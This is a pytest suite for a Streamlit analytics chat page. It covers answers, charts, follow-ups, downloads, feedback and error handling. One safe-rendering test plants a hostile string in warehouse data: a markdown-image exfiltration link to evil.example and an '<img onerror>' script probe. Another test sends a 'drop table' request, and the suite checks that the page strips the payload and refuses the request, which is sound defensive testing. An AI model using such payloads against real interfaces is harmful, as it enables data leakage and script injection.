"""The chat page driven by Streamlit's AppTest: the real script, the real pipeline, the demo warehouse.

Each test starts the page on a copy of the demo project (the page writes the feedback
store and logs into ``.lore/``) and checks what a person would see and click.
"""

from __future__ import annotations

import json
import sys
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from lore import Lore
from lore.chart import chart_png
from lore.plan.catalog import Catalog
from lore.project import Project
from lore.semantic.load import load_layer
from lore.types import Answer
from ui import render
from ui.cli import APP_PATH

#: seconds one script run may take (the first question loads the embedding model)
TIMEOUT = 180


def start(project: Path, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    monkeypatch.setenv("LORE_PROJECT", str(project))
    monkeypatch.setattr(sys, "argv", [str(APP_PATH)])
    at = AppTest.from_file(str(APP_PATH), default_timeout=TIMEOUT)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def ask(at: AppTest, question: str) -> Answer:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, [e.value for e in at.exception]
    turn = at.session_state["history"][-1]
    assert turn.question == question
    assert turn.answer is not None, turn.error
    return turn.answer


def headlines(at: AppTest) -> list[str]:
    return [m.value for m in at.markdown if m.value.startswith("#### ")]


def unescape(text: str) -> str:
    return text.replace("\\", "")


def layer_and_catalog(project: Path) -> tuple[Any, Catalog]:
    layer = load_layer(Project.open(project).semantic_path)
    return layer, Catalog.build(layer)


def all_text(at: AppTest) -> list[str]:
    """Every piece of text the page renders as markdown: messages, captions, alerts, labels."""
    texts: list[str] = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "title", "subheader"):
        texts += [str(e.value) for e in at.get(kind)]
    texts += [e.label for e in at.expander] + [b.label for b in at.button]
    return texts


# --- first visit ------------------------------------------------------------------------------


def test_first_visit_shows_example_questions_per_domain_and_the_catalog(ui_project: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    layer, catalog = layer_and_catalog(ui_project)
    examples = render.example_questions(layer, catalog)
    assert len(examples) >= 5  # the demo's domains: ASR, cloud, content, experiments, games, streaming

    shown = [unescape(b.label) for b in at.button if str(b.key).startswith("example_")]
    assert shown == [q for qs in examples.values() for q in qs]
    domain_titles = {unescape(m.value) for m in at.markdown}
    assert {f"**{d}**" for d in examples} <= domain_titles
    assert at.main.subheader[0].value == "What would you like to know?"

    catalog_labels = {unescape(e.label) for e in at.sidebar.expander}
    assert {m.display for m in layer.metrics.values()} <= catalog_labels
    assert "Advanced" in catalog_labels
    assert not at.error


def test_catalog_search_narrows_the_metrics(ui_project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    layer, _ = layer_and_catalog(ui_project)
    at.text_input(key="catalog_query").input("finops").run()
    shown = {unescape(e.label) for e in at.sidebar.expander} - {"Advanced"}
    assert shown == {m.display for m in layer.metrics.values() if m.owner == "cloud-finops"}
    assert any(f"{len(shown)} of {len(layer.metrics)} metrics" == c.value for c in at.sidebar.caption)


def test_an_example_button_asks_its_question(ui_project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    button = next(b for b in at.button if str(b.key).startswith("example_"))
    button.click().run()
    assert not at.exception
    turn = at.session_state["history"][-1]
    assert turn.question == unescape(button.label)
    assert turn.answer.status == "answered", turn.answer.message
    assert len(at.get("vega_lite_chart")) == 1


# --- asking -----------------------------------------------------------------------------------


def test_ask_shows_answer_chart_table_badge_and_details(ui_project: Path, monkeypatch: pytest.MonkeyPatch,
                                                         raw_db: Any) -> None:
    at = start(ui_project, monkeypatch)
    answer = ask(at, "streaming hours by region in 2026")
    assert answer.status == "answered"
    assert answer.plan.metrics == ("total_streaming_hours",) and answer.plan.dimensions == ("countries.region",)

    # the card leads with the answer in words, then the chart, then the table
    assert headlines(at) == [f"#### {render.safe_markdown(answer.message)}"]
    assert len(at.get("vega_lite_chart")) == 1 and len(at.dataframe) == 1
    assert not at.main.subheader  # the first-visit panel is gone once a question is asked

    # the table holds the numbers the warehouse gives for the same question (hand-written SQL)
    expected = dict(raw_db.execute(
        "SELECT c.region, SUM(s.streaming_hours) FROM streaming_sessions s "
        "JOIN accounts a ON s.account_id = a.account_id JOIN countries c ON a.country_iso_code = c.country_iso_code "
        "WHERE s.session_date BETWEEN DATE '2026-01-01' AND DATE '2026-12-31' GROUP BY c.region").fetchall())
    frame = at.dataframe[0].value
    shown = dict(zip(frame["region"], frame["total_streaming_hours"]))
    assert shown.keys() == expected.keys()
    for region, hours in expected.items():
        assert shown[region] == pytest.approx(hours)
    assert list(frame["total_streaming_hours"]) == sorted(frame["total_streaming_hours"], reverse=True)  # as the bars

    # the confidence badge: level and score, factors in its tooltip
    badge = render.confidence_badge(answer)
    assert any(badge.label in m.value for m in at.markdown)
    assert badge.label.endswith(f"{answer.confidence:.2f}")

    # reasoning and SQL in expanders; the SQL is a code block (copyable)
    labels = [e.label for e in at.main.expander]
    assert "How I got this" in labels and "SQL" in labels
    assert any(c.language == "sql" and "streaming_sessions" in c.value for c in at.code)


def test_follow_up_keeps_the_context_and_nothing_is_lost_on_rerun(ui_project: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    first = ask(at, "streaming hours by region in 2026")
    second = ask(at, "now only premium accounts")
    assert second.status == "answered"
    assert second.plan.metrics == first.plan.metrics and second.plan.dimensions == first.plan.dimensions
    assert any(f.ref == "accounts.plan" and f.values == ("premium",) for f in second.plan.filters)
    assert second.plan.time == first.plan.time
    assert second.conversation_id == first.conversation_id

    # the chart's title carries every filter, so a screenshot of it stands alone
    title = json.loads(at.get("vega_lite_chart")[1].proto.spec)["title"]["text"]
    assert "premium" in title and "2026" in title

    before = headlines(at)
    assert len(before) == 2
    at.run()  # a plain rerun (any click) keeps the whole conversation
    assert headlines(at) == before
    assert len(at.get("vega_lite_chart")) == 2 and len(at.dataframe) == 2

    next(b for b in at.button if b.label == "New conversation").click().run()  # a fresh start, context dropped
    assert not at.session_state["history"] and not headlines(at)
    assert at.main.subheader[0].value == "What would you like to know?"
    third = ask(at, "now only premium accounts")
    assert third.conversation_id != first.conversation_id
    assert third.status != "answered" or third.plan.metrics != first.plan.metrics  # nothing to follow up on


def test_clarify_offers_the_closest_metrics_as_buttons_that_ask_again(ui_project: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    layer, _ = layer_and_catalog(ui_project)
    question = "how much revenue by region in 2026"
    answer = ask(at, question)
    assert answer.status == "clarify" and answer.suggestions
    assert at.info[0].value == render.safe_markdown(answer.message)
    buttons = [b for b in at.button if str(b.key).startswith(f"suggest_{answer.id}_")]
    assert [unescape(b.label) for b in buttons] == [render.suggestion_label(layer, s) for s in answer.suggestions]
    assert not at.download_button  # nothing to download from a question

    buttons[0].click().run()
    assert not at.exception
    turn = at.session_state["history"][-1]
    assert turn.question == render.reask_question(layer, question, answer.suggestions[0])
    assert turn.answer.status == "answered", turn.answer.message
    assert turn.answer.plan.metrics == (answer.suggestions[0],)
    assert "countries.region" in turn.answer.plan.dimensions  # the rest of the question still counts


def test_settings_today_and_show_sql(ui_project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    at.date_input(key="today").set_value(date(2026, 6, 15))
    at.toggle(key="show_sql").set_value(True)
    at.run()
    answer = ask(at, "streaming hours last month")
    assert answer.status == "answered", answer.message
    assert (answer.plan.time.start, answer.plan.time.end) == (date(2026, 5, 1), date(2026, 5, 31))
    sql = next(e for e in at.expander if e.label == "SQL")
    assert sql.proto.expanded is True


# --- downloads --------------------------------------------------------------------------------


def test_downloads_offer_the_table_as_csv_and_the_chart_as_png(ui_project: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    answer = ask(at, "cost per install by month in 2026")
    assert answer.status == "answered" and answer.chart_kind == "line"
    assert [d.label for d in at.download_button] == ["CSV", "PNG"]

    lines = render.table_csv(answer.columns, render.sorted_rows(answer)).decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(render.column_title(c) for c in answer.columns)
    assert len(lines) == len(answer.rows) + 1
    png = chart_png(render.answer_chart(answer))
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5_000


# --- feedback ---------------------------------------------------------------------------------


def vote_down_with_correction(at: AppTest, answer: Answer) -> None:
    at.feedback(key=f"vote_{answer.id}").set_value(0).run()
    assert not at.exception
    at.text_input(key=f"fbcomment_{answer.id}").input("Should exclude test accounts")
    at.text_area(key=f"fbcorrection_{answer.id}").input(answer.sql or "")
    next(b for b in at.button if b.label == "Send feedback").click().run()
    assert not at.exception


def test_feedback_is_acknowledged_only_after_the_store_has_it(ui_project: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    import feedback.store as store_mod
    at = start(ui_project, monkeypatch)
    answer = ask(at, "streaming hours by device in 2026")
    assert not at.success
    vote_down_with_correction(at, answer)
    assert [s.value for s in at.success] == ["Thanks, recorded"]
    assert not at.error

    # durable: a separate handle on the project's store sees the vote, its comment and its correction
    store = store_mod.FeedbackStore(store_mod.store_path(Lore.open(ui_project)))
    user = at.session_state["user"]
    key = render.feedback_key(answer.id, user, -1, "Should exclude test accounts", answer.sql or "")
    assert key in store.event_keys()
    stats = store.stats()
    assert (stats.votes, stats.down, stats.corrections) == (1, 1, 1)

    at.run()  # the acknowledgement and the disabled thumbs survive a rerun
    assert [s.value for s in at.success] == ["Thanks, recorded"]
    assert at.feedback(key=f"vote_{answer.id}").proto.disabled


def test_feedback_store_unavailable_is_a_clear_error(project_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = project_copy  # its own path, so a fresh Lore reads LORE_FEEDBACK
    monkeypatch.setenv("LORE_FEEDBACK", "false")
    at = start(project, monkeypatch)
    answer = ask(at, "streaming hours by device in 2026")
    vote_down_with_correction(at, answer)
    assert not at.success
    assert at.error and "Your feedback was not recorded" in at.error[0].value
    assert "not recorded" in at.error[0].value.lower()


# --- errors -----------------------------------------------------------------------------------


def test_a_missing_project_is_a_friendly_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(tmp_path / "nowhere", monkeypatch)
    assert len(at.error) == 1
    text = at.error[0].value
    assert "LORE is not set up yet" in text and "No LORE project" in text
    assert "lore demo init" in unescape(text)
    assert not at.chat_message and not at.exception


def test_a_broken_semantic_layer_names_the_issue(project_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = project_copy
    (project / "semantic" / "zz_broken.yaml").write_text(
        "metrics:\n  - name: broken_metric\n    source: no_such_source\n    agg: sum\n    expr: x\n", encoding="utf-8")
    at = start(project, monkeypatch)
    assert len(at.error) == 1
    text = unescape(at.error[0].value)
    assert "The metric definitions need fixing" in text and "broken_metric" in text
    assert "lore semantic validate" in text


# --- safe rendering ---------------------------------------------------------------------------

EVIL = "Top ![pwn](http://evil.example/leak.png?d=1) <img src=x onerror=alert(1)> [click](http://evil.example)"


def test_markdown_images_links_and_html_from_data_are_stripped(project_copy: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import duckdb

    project = project_copy
    con = duckdb.connect(str(project / "warehouse.duckdb"))
    try:  # the production with the most cash spend gets a hostile name (a data value, not indexed)
        top = con.execute("SELECT production_id FROM cash_spend GROUP BY 1 ORDER BY SUM(amount_usd) DESC LIMIT 1").fetchone()[0]
        con.execute("UPDATE productions SET production_name = ? WHERE production_id = ?", [EVIL, top])
    finally:
        con.close()

    at = start(project, monkeypatch)
    answer = ask(at, "content cash spend by production")
    assert answer.status == "answered"
    assert "![pwn](http://evil.example" in answer.message  # the hostile value reached the answer text

    (headline,) = headlines(at)
    assert "Top" in headline and "click" in headline and "pwn" not in headline
    ask(at, "show me ![x](http://evil.example/q.png) [here](http://evil.example) streaming hours")
    for text in all_text(at):
        assert "evil.example" not in text and "![" not in text and "<img" not in text, text


def test_a_refusal_is_a_warning_and_its_suggestions_ask_for_the_metric(ui_project: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    at = start(ui_project, monkeypatch)
    layer, _ = layer_and_catalog(ui_project)
    answer = ask(at, "drop table accounts")
    assert answer.status == "refused" and not answer.sql
    assert at.warning[0].value == render.safe_markdown(answer.message)
    assert not at.download_button and not any(e.label == "SQL" for e in at.expander)

    answer = ask(at, "what is the weather in Paris tomorrow")
    assert answer.status == "refused"
    buttons = [b for b in at.button if str(b.key).startswith(f"suggest_{answer.id}_")]
    if not buttons:
        return  # a refusal without suggestions: nothing to offer
    buttons[0].click().run()
    turn = at.session_state["history"][-1]
    assert turn.question == layer.metrics[answer.suggestions[0]].display
    assert turn.answer.status == "answered" and turn.answer.plan.metrics == (answer.suggestions[0],)


def test_every_example_and_catalog_question_is_answered_with_a_chart(demo_lore: Lore) -> None:
    """The first-visit panel and the catalog only offer questions the pipeline answers (with a chart)."""
    layer, catalog = demo_lore.layer, demo_lore.catalog
    questions = [q for qs in render.example_questions(layer, catalog).values() for q in qs]
    questions += [render.metric_example(layer, catalog, name) for name in layer.metrics]
    failures = []
    for question in dict.fromkeys(questions):
        answer = demo_lore.chat().ask(question)
        if answer.status != "answered" or answer.chart_kind in (None, "table") or not answer.rows:
            failures.append((question, answer.status, answer.chart_kind, answer.message))
    assert not failures, failures
